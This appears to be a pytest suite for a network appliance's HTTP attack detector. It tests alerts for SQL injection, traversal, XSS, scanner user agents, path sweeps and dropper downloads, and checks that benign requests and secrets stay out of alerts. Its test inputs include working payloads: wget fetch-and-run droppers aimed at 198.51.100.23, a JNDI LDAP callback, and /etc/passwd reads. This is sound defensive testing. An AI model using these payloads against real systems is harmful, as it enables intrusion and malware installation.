"""web: injection, traversal, XSS, scanner user agents, path sweeps and risky downloads are
found in plain-HTTP requests; ordinary requests that look a bit like them are not; alerts never
carry query values, cookies, credentials or bodies."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest
from scapy.layers.inet import IP, TCP

from appliance.config import ConfigError
from appliance.detect.detectors.web import WebDetector, bare_host, decoded_forms, host_port
from appliance.detect.engine import Engine
from appliance.detect.intel import IntelStore
from appliance.detect.records import HttpRequest
from appliance.packet.decode import DecodeStats, decode_ip
from tests.helpers import (
    Harness,
    alert_key,
    at,
    make_config,
    replay_alerts,
    run_packets,
    write_pcap,
)

PC1, PC2 = "198.18.0.11", "198.18.0.12"
WEB = "203.0.113.10"
ATK = "198.51.100.23"
T0 = 1_800_000_000.0
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36"


def request(
    target: str,
    ts: float = T0,
    src: str = ATK,
    dst: str = PC2,
    dport: int = 80,
    sport: int = 40000,
    method: str = "GET",
    host: str | None = "office.example.com",
    ua: str | None = BROWSER,
    headers: tuple[str, ...] = (),
    body: str = "",
) -> list:
    """A TCP handshake and one HTTP/1.1 request head (plus body) from `src` to `dst`."""
    lines = [f"{method} {target} HTTP/1.1"]
    if host is not None:
        lines.append(f"Host: {host}")
    if ua is not None:
        lines.append(f"User-Agent: {ua}")
    lines += list(headers)
    if body:
        lines.append(f"Content-Length: {len(body)}")
    payload = ("\r\n".join(lines) + "\r\n\r\n" + body).encode("utf-8", "surrogateescape")
    c, s = IP(src=src, dst=dst), IP(src=dst, dst=src)
    return [
        at(c / TCP(sport=sport, dport=dport, flags="S", seq=100), ts),
        at(s / TCP(sport=dport, dport=sport, flags="SA", seq=500, ack=101), ts + 0.001),
        at(c / TCP(sport=sport, dport=dport, flags="A", seq=101, ack=501), ts + 0.002),
        at(c / TCP(sport=sport, dport=dport, flags="PA", seq=101, ack=501) / payload, ts + 0.003),
    ]


def requests(targets, t0=T0, step=1.0, sport=20000, **kw) -> list:
    pkts = []
    for i, target in enumerate(targets):
        pkts += request(target, t0 + i * step, sport=sport + i % 40000, **kw)
    return pkts


def run(pkts, cfg=None) -> Harness:
    return run_packets(pkts, cfg)


def checks(h: Harness) -> list[tuple[int, str]]:
    return [
        (a["alert"]["signature_id"], a["watchpost"]["details"]["check"])
        for a in h.by_detector("web")
    ]


def one(target: str, **kw) -> list[tuple[int, str]]:
    return checks(run(request(target, **kw)))


# -- the pieces ----------------------------------------------------------------------------


def test_decoded_forms() -> None:
    assert decoded_forms("/a/b") == ("/a/b",)
    assert decoded_forms("/q?x=a+b%27") == ("/q?x=a+b%27", "/q?x=a b'")
    assert decoded_forms("/%252e%252e%252f") == ("/%252e%252e%252f", "/%2e%2e%2f", "/../")


def test_host_helpers() -> None:
    assert bare_host("example.com:8080") == "example.com" and host_port("example.com:8080") == 8080
    assert bare_host("[2001:db8::1]:81") == "[2001:db8::1]" and host_port("[2001:db8::1]:81") == 81
    assert bare_host("203.0.113.5") == "203.0.113.5" and host_port("203.0.113.5") == 0


# -- attacks -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/item.php?id=1+union+all+select+1,2,@@version",
        "/login?user=admin%27%20or%20%271%27=%271&pw=x",
        "/login?user=admin'--",
        "/p?id=1;%20DROP%20TABLE%20users",
        "/p?id=1%2527%2520or%25201%253D1",  # double-encoded ' or 1=1
        "/p?id=(select%20sleep(5))--",
        "/p?id=1 AND extractvalue(1,concat(0x7e,version()))--",
        "/p?q=x%27;waitfor%20delay%20%270:0:5%27--",
        "/p?id=1%20ORDER%20BY%2010--",
        "/p?id=-1 union select table_name from information_schema.tables",
    ],
)
def test_sql_injection(target: str) -> None:
    assert (8107001, "sql-injection") in one(target)


@pytest.mark.parametrize(
    "target",
    [
        "/static/../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2fetc%2fpasswd",
        "/download?file=%252e%252e%252f%252e%252e%252fwindows/win.ini",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/page?f=/etc/shadow",
        "/..%c0%af..%c0%afetc/hosts",
        "/view?path=..\\..\\..\\boot.ini",
    ],
)
def test_path_traversal(target: str) -> None:
    assert (8107002, "path-traversal") in one(target)


@pytest.mark.parametrize(
    "target",
    [
        "/ping.php?host=127.0.0.1;cat%20/etc/passwd",
        "/cgi-bin/test.cgi?x=|id",
        "/api?cmd=%60whoami%60",
        "/run?x=$(uname%20-a)",
        "/x?a=${IFS}cat${IFS}/etc/passwd",
        "/shell?cd+/tmp;wget+http://198.51.100.23/x.sh;sh+x.sh",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id||id",
    ],
)
def test_command_injection(target: str) -> None:
    assert (8107003, "command-injection") in one(target)


@pytest.mark.parametrize(
    "ua",
    [
        "${jndi:ldap://198.51.100.23:1389/a}",
        "${${lower:j}ndi:${lower:l}dap://x/a}",
        "() { :; }; /bin/bash -c 'id'",
    ],
)
def test_exploits_in_the_user_agent(ua: str) -> None:
    got = one("/", ua=ua)
    assert (8107003, "command-injection") in got
    h = run(request("/", ua=ua))
    assert h.by_detector("web")[0]["watchpost"]["details"]["where"] == "user-agent"


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
        "/p?next=javascript:alert(1)",
        "/p?q=%253Csvg%252Fonload%253Dalert(1)%253E",
        "/p?q=<body onload=prompt('x')>",
    ],
)
def test_cross_site_scripting(target: str) -> None:
    assert (8107004, "xss") in one(target)


@pytest.mark.parametrize(
    "ua",
    [
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "gobuster/3.6",
        "Fuzz Faster U Fool v2.1.0",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Hello, World (zmeu)",
    ],
)
def test_scanner_user_agents(ua: str) -> None:
    got = one("/", ua=ua)
    assert got == [(8107005, "scanner")]


def test_extra_scanner_agents_from_config() -> None:
    cfg = make_config(detect={"web": {"scanner_agents": ["EvilCrawler"]}})
    assert checks(run(request("/", ua="Mozilla/5.0 evilcrawler/2"), cfg)) == [(8107005, "scanner")]


def test_path_sweep_from_one_source() -> None:
    paths = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/",
        "/server-status",
        "/.aws/credentials",
        "/config.php",
        "/backup.zip",
        "/actuator/env",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ]
    h = run(requests(paths))
    sweeps = [a for a in h.by_detector("web") if a["alert"]["signature_id"] == 8107006]
    assert len(sweeps) == 1
    a = sweeps[0]
    assert a["src_ip"] == ATK and a["watchpost"]["details"]["paths"] == 8
    assert a["watchpost"]["count"] == 8


def test_a_long_sweep_keeps_counting() -> None:
    kinds = [".env", ".git/", "wp-login.php", "phpmyadmin", "server-status", ".aws/", "config.php"]
    kinds += ["backup", "actuator", "jenkins", "solr/", "cgi-bin/", "hnap1", "boaform/", "pma/"]
    kinds += ["xmlrpc.php"]
    h = run(requests([f"/{k}" for k in kinds]))
    sweeps = [a for a in h.by_detector("web") if a["alert"]["signature_id"] == 8107006]
    assert sum(a["watchpost"]["count"] for a in sweeps) == 16


@pytest.mark.parametrize(
    ("target", "host", "dport"),
    [
        ("/update.exe", "203.0.113.66", 80),
        ("/invoice.pdf.scr", "203.0.113.66:8080", 80),
        ("/a.ps1", "cdn-files.duckdns.org", 80),
        ("/payload.hta", "files.example.top", 80),
        ("/setup.msi", "downloads.example.com:8000", 8000),
        ("/tool.exe", None, 80),
        ("http://203.0.113.66/dropper.exe", "", 3128),  # through a proxy, absolute form
    ],
)
def test_program_downloads_from_odd_hosts(target: str, host: str | None, dport: int) -> None:
    got = one(target, src=PC1, dst="203.0.113.66", host=host, dport=dport, ua="WindowsPowerShell")
    assert (8107010, "program-download") in got


@pytest.mark.parametrize(
    ("target", "ua"),
    [
        ("/bins.sh", "Wget"),
        ("/Mozi.m", None),
        ("/bins/mirai.arm7", "curl/7.0"),
        ("/x86_64", "Wget"),
        ("/sora.mips", "Wget"),
        ("/i.sh", "curl/8.0"),
    ],
)
def test_iot_dropper_downloads(target: str, ua: str | None) -> None:
    got = one(target, src=PC2, dst="203.0.113.66", host="203.0.113.66", ua=ua)
    assert (8107011, "iot-dropper") in got


def test_injected_iot_dropper() -> None:
    target = (
        "/GponForm/diag_Form?images/;cd%20/tmp;wget%20http://198.51.100.23/bins.sh;"
        "chmod%20+x%20bins.sh;./bins.sh"
    )
    got = one(target, src=ATK, dst=PC2, host=PC2)
    assert (8107011, "iot-dropper") in got and (8107003, "command-injection") in got
    sev = {a["alert"]["signature_id"]: a["alert"]["severity"] for a in run(request(target)).alerts}
    assert sev[8107011] == 1 and sev[8107003] == 1


# -- benign look-alikes ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/search?q=select+a+union+representative",
        "/search?q=how+to+drop+a+table+in+sql",
        "/blog/union-select-committee-report",
        "/articles?author=O%27Brien&sort=date",
        "/shop?item=rock+%27n%27+roll+or+pop",
        "/api/v1/users?id=5&fields=name,email&order=asc",
        "/static/js/app.min.js?v=3.2.1",
        "/recaptcha/api.js?onload=onloadCallback&render=explicit",
        "/page;jsessionid=0123456789ABCDEF?x=1",
        "/search?q=cats+%26+dogs&id=7",
        "/files/report%20(final).pdf",
        "/wiki/Alert_(song)",
        "/docs/../img/logo.png",
        "/maps?q=1+%3C+2+and+3+%3E+2",
        "/p?email=someone%40example.com&next=%2Faccount%2Fsettings",
        "/download/driver-setup.exe",
        "/cgi-bin/printer/status.cgi",
    ],
)
def test_ordinary_requests_raise_nothing(target: str) -> None:
    assert one(target, src=PC1, dst=WEB, host="www.example.com") == []


def test_ordinary_user_agents_raise_nothing() -> None:
    for ua in (
        BROWSER,
        "curl/8.5.0",
        "Wget/1.21.3",
        "python-requests/2.32.3",
        "Go-http-client/1.1",
        "Microsoft-CryptoAPI/10.0",
        "Debian APT-HTTP/1.3 (2.6.1)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ):
        assert one("/", ua=ua) == [], ua


def test_a_few_sensitive_paths_are_no_sweep() -> None:
    # A site owner logging in to WordPress, the printer's many CGI pages.
    paths = ["/wp-login.php", "/wp-admin/", "/wp-admin/post.php", "/wp-login.php?loggedout=true"]
    paths += [f"/cgi-bin/page{i}.cgi" for i in range(30)]
    assert checks(run(requests(paths, src=PC1, dst=WEB))) == []


def test_sensitive_paths_spread_over_hours_are_no_sweep() -> None:
    kinds = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/server-status"]
    kinds += ["/.aws/credentials", "/config.php", "/backup.zip", "/actuator/env"]
    assert checks(run(requests(kinds, step=900.0))) == []


def test_sensitive_paths_from_different_sources_are_counted_apart() -> None:
    kinds = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/server-status"]
    kinds += ["/.aws/credentials", "/config.php", "/backup.zip", "/actuator/env"]
    pkts = []
    for i, k in enumerate(kinds):
        pkts += request(k, T0 + i, src=f"198.51.100.{30 + i}", sport=30000 + i)
    assert checks(run(pkts)) == []


def test_downloads_from_ordinary_hosts_are_not_risky() -> None:
    for target, host in (
        ("/firefox/releases/Firefox%20Setup%20133.0.exe", "download.mozilla.org"),
        ("/pub/install.sh", "get.example.com"),
        ("/firmware/router-v2.bin", "support.example.com"),
        ("/app.jar", "repo.example.org"),
    ):
        got = one(target, src=PC1, dst=WEB, host=host, ua="Wget/1.21")
        assert got == [], target


# -- privacy, options, replay ----------------------------------------------------------------


def test_no_password_cookie_or_payload_reaches_an_alert() -> None:
    secrets = ("hunter2-S3cret", "sess-9f8e7d6c5b4a", "YWxpY2U6c2VjcmV0", "card4111111111111111")
    target = f"/login.php?user=alice&password={secrets[0]}&q=1%27%20or%20%271%27=%271"
    pkts = request(
        target,
        ua="sqlmap/1.8",
        headers=(f"Cookie: session={secrets[1]}", f"Authorization: Basic {secrets[2]}"),
        method="POST",
        body=f"pan={secrets[3]}&comment=<script>alert(1)</script>",
    )
    h = run(pkts)
    web = h.by_detector("web")
    assert {8107001, 8107005} <= {a["alert"]["signature_id"] for a in web}
    text = json.dumps(h.alerts)
    for secret in (*secrets, "alice", "or '1'='1", "<script>"):
        assert secret not in text
    a = next(a for a in web if a["alert"]["signature_id"] == 8107001)
    assert a["http"]["url"] == "/login.php?user=&password=&q="
    assert a["http"]["hostname"] == "office.example.com"
    assert a["http"]["http_method"] == "POST"
    assert a["http"]["http_user_agent"] == "sqlmap/1.8"
    assert a["watchpost"]["details"] == {"check": "sql-injection", "where": "query"}


def test_pseudonymized_alerts_hold_no_office_address() -> None:
    cfg = make_config(privacy={"pseudonymize": True, "key": "k" * 32})
    pkts = request("/x?id=1%20union%20select%201", src=ATK, dst=PC2, host=PC2)
    pkts += request("/bins.sh", T0 + 1, src=PC1, dst="203.0.113.66", host="203.0.113.66")
    h = run(pkts, cfg)
    assert len(h.by_detector("web")) == 2
    text = json.dumps(h.alerts)
    assert PC1 not in text and PC2 not in text and "198.18.0." not in text


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("checks", ["sql-injection", "telepathy"]),
        ("sweep_paths", 1),
        ("sweep_window", 0.0),
        ("scanner_agents", ["  "]),
        ("risky_suffixes", ["bad suffix"]),
    ],
)
def test_bad_options_are_refused_naming_the_key(option: str, value) -> None:
    with pytest.raises(ConfigError) as err:
        Harness(make_config(detect={"web": {option: value}}))
    assert err.value.key.startswith(f"detect.web.{option}")


def test_checks_can_be_switched_off() -> None:
    cfg = make_config(detect={"web": {"checks": ["xss"]}})
    target = "/p?id=1%20union%20select%201&q=<script>alert(1)</script>"
    assert checks(run(request(target, ua="sqlmap/1.8"), cfg)) == [(8107004, "xss")]


def test_sweep_state_stays_bounded_and_ages_out() -> None:
    h = Harness(make_config(detect={"web": {"max_sources": 20}}))
    det = next(d for d in h.engine.detectors if d.name == "web")
    pkts = []
    for i in range(200):
        pkts += request("/.env", T0 + i * 0.1, src=f"198.51.100.{i % 250 + 1}", sport=20000 + i)
    h.feed(pkts)
    assert len(det._sweeps) <= 20
    h.engine.tick(T0 + 10_000)
    assert det._sweeps == {}


def test_works_when_neither_side_is_in_home_nets() -> None:
    cfg = make_config(inline={"home_nets": ["10.99.0.0/16"]})
    h = run(request("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), cfg)
    assert checks(h) == [(8107004, "xss")]
    assert h.by_detector("web")[0]["watchpost"]["direction"] == "unknown"


def test_replayed_pcap_gives_the_same_alerts(tmp_path: Path) -> None:
    pkts = requests(["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/server-status"])
    pkts += requests(["/.aws/credentials", "/config.php", "/backup.zip"], t0=T0 + 10, sport=30000)
    pkts += request("/p?id=1'--", T0 + 20, ua="sqlmap/1.8", sport=9999)
    pkts += request("/bins.sh", T0 + 30, src=PC1, dst="203.0.113.66", host=None, sport=9998)
    pcap = write_pcap(pkts, tmp_path / "web.pcap")
    inline = run(list(pkts)).by_detector("web")
    replayed = replay_alerts(pcap, "web")
    assert len(inline) == 4
    assert sorted(map(alert_key, inline)) == sorted(map(alert_key, replayed))


def test_odd_requests_never_break_the_hook() -> None:
    """Random targets, hosts and user agents straight into the hook: no exception."""
    det = WebDetector()
    engine = Engine(make_config(), IntelStore(), lambda a: None, detectors=[det])
    pkt = decode_ip(bytes(request("/")[-1]), T0, DecodeStats())
    flow, _ = engine.flows.lookup(pkt)
    r = random.Random(13)
    alphabet = "/.%25aZ09?&=;'\"<>|$`(){}\\:[]+-_~\x00\xff\u2028"
    for i in range(3000):
        text = "".join(r.choice(alphabet) for _ in range(r.randint(0, 200)))
        host = "".join(r.choice(alphabet) for _ in range(r.randint(0, 40)))
        req = HttpRequest(r.choice(["GET", "POST", "HEAD"]), text, "HTTP/1.1", host, text[::-1])
        engine.now = T0 + i
        det.http(engine.contexts[det.name], pkt, flow, req)


def test_an_attack_pipelined_behind_a_harmless_request_is_seen() -> None:
    """Two requests in one segment: the web hooks see the second too (the engine runs every
    http hook on each pipelined request); alone, the harmless first raises nothing."""
    first = "GET /index.html HTTP/1.1\r\nHost: office.example.com\r\n\r\n"
    second = "GET /../../../../etc/passwd HTTP/1.1\r\nHost: office.example.com\r\n\r\n"
    c, s = IP(src=ATK, dst=PC2), IP(src=PC2, dst=ATK)

    def flow(payload: str) -> list:
        return [
            at(c / TCP(sport=41000, dport=80, flags="S", seq=100), T0),
            at(s / TCP(sport=80, dport=41000, flags="SA", seq=500, ack=101), T0 + 0.001),
            at(c / TCP(sport=41000, dport=80, flags="A", seq=101, ack=501), T0 + 0.002),
            at(c / TCP(sport=41000, dport=80, flags="PA", seq=101, ack=501) / payload, T0 + 0.003),
        ]

    assert checks(run(flow(first))) == []
    found = checks(run(flow(first + second)))
    assert found and all(check == "path-traversal" for _, check in found), found
